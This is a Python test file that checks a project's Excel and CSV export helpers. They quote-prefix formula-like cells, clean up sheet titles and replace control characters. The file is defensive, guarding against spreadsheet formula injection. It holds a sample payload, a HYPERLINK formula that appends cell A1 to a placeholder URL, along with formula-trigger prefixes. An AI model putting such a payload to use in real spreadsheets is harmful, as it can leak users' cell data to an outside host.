"""Export files Excel opens: sheet titles it accepts, cells that never run a formula, characters
that never break a file — read back with openpyxl and csv, as a user's spreadsheet would."""

from __future__ import annotations

import csv
import datetime
from decimal import Decimal

from openpyxl import load_workbook

from fpa.core.exports import safe_cell, sheet_title, write_csv, write_xlsx

ATTACK = '=HYPERLINK("http://x"&A1,"点击")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\rcmd"]


def test_sheet_title_drops_what_excel_refuses_and_keeps_31_characters():
    assert sheet_title("会长/副会长/秘书长名单") == "会长、副会长、秘书长名单"
    assert sheet_title("a:b\\c?d*e[f]") == "a、b、c、d、e、f、"
    assert len(sheet_title("长" * 40)) == 31
    assert sheet_title("") == "Sheet1"


def test_a_text_that_starts_a_formula_is_written_after_an_apostrophe():
    assert safe_cell(ATTACK) == "'" + ATTACK
    assert [safe_cell(s) for s in STARTS] == ["'" + s for s in STARTS]
    assert safe_cell("张桂兰") == "张桂兰" and safe_cell("a=b") == "a=b"
    assert safe_cell("**************1234") == "**************1234"


def test_numbers_dates_and_empty_cells_stay_what_they_are():
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell(-0.5) == -0.5 and safe_cell(True) is True and safe_cell(None) is None
    assert safe_cell(datetime.date(2021, 5, 29)) == datetime.date(2021, 5, 29)
    assert safe_cell(datetime.timedelta(hours=-2)) == datetime.timedelta(hours=-2)


def test_characters_no_sheet_can_hold_are_replaced_and_text_is_cut_to_a_cells_size():
    assert safe_cell("a\x00b\x1bc\x08") == "a\ufffdb\ufffdc\ufffd"
    assert safe_cell("行一\n行二\t") == "行一\n行二\t"
    assert safe_cell("=\x00") == "'=\ufffd"
    assert len(safe_cell("长" * 40000)) == 32767


def test_xlsx_holds_an_attack_as_quote_prefixed_text_and_a_negative_amount_as_a_number(tmp_path):
    # Quote-prefixed: Excel shows the text as typed and never runs it, and the file imported
    # again gives back the same text (no apostrophe added to a name).
    path = tmp_path / "t.xlsx"
    rows = [[ATTACK, Decimal("-12.50"), -3], ["a\x00b", "\x07", None], *([s] for s in STARTS)]
    write_xlsx(path, "表", ["=姓名", "金额", "数"], rows)
    sheet = load_workbook(path).active
    header, attack, controls, *starts = list(sheet.iter_rows())
    assert (header[0].value, header[0].data_type, header[0].quotePrefix) == ("=姓名", "s", True)
    assert (attack[0].value, attack[0].data_type, attack[0].quotePrefix) == (ATTACK, "s", True)
    assert attack[1].value == -12.5 and attack[1].data_type == "n"
    assert attack[2].value == -3 and attack[2].data_type == "n"
    assert [c.value for c in controls[:2]] == ["a\ufffdb", "\ufffd"]
    assert [(r[0].value, r[0].data_type, r[0].quotePrefix) for r in starts] == [
        (s, "s", True) for s in STARTS
    ]
    assert not attack[1].quotePrefix and not controls[0].quotePrefix


def test_csv_holds_an_attack_as_text_and_reads_back_without_a_nul(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(path, ["姓名", "金额"], [[ATTACK, Decimal("-12.50")], ["a\x00b", -3], ["@x", 0]])
    with open(path, encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    assert lines == [
        ["姓名", "金额"],
        ["'" + ATTACK, "-12.50"],
        ["a\ufffdb", "-3"],
        ["'@x", "0"],
    ]


def test_an_aware_datetime_is_written_in_local_time(tmp_path):
    from django.utils import timezone

    at = timezone.make_aware(datetime.datetime(2021, 5, 29, 8, 30), datetime.UTC)
    path = tmp_path / "t.xlsx"
    write_xlsx(path, "表", ["时间"], [[at]])
    cell = list(load_workbook(path).active.iter_rows())[1][0]
    assert cell.value == timezone.localtime(at).replace(tzinfo=None)


def test_the_import_error_report_writes_the_files_own_values_as_safe_cells(tmp_path):
    from fpa.core.imports.report import error_report
    from fpa.core.imports.results import Preview, RowError, RowResult
    from fpa.core.imports.schema import Column, RowSchema

    class Names(RowSchema):
        title = "人员"
        columns = (Column("name", "姓名"),)

    bad = ATTACK + "\x00"
    row = RowResult(2, {}, "rejected", [RowError(2, "姓名", bad, "格式错误")], [bad])
    preview = Preview(Names(), "人员", 1, {0: Names.columns[0]}, [row], ["@提示"])
    book = load_workbook(error_report(preview, tmp_path / "r.xlsx"))
    cells = [
        list(book["错误清单"].iter_rows())[1][2],
        list(book["人员"].iter_rows())[1][0],
        list(book["提示"].iter_rows())[1][0],
    ]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (ATTACK + "\ufffd", "s", True),
        (ATTACK + "\ufffd", "s", True),
        ("@提示", "s", True),
    ]
